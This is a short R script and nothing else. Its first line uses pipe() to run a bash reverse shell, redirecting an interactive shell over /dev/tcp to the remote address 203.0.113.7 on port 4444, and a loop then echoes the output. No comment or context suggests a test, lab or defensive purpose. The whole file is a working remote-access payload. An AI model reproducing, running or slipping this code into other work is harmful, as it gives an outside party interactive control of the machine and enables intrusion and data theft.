con <- pipe("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", open = "r")
while (length(line <- readLines(con, n = 1)) > 0) {
  cat(line, "\n")
}
close(con)
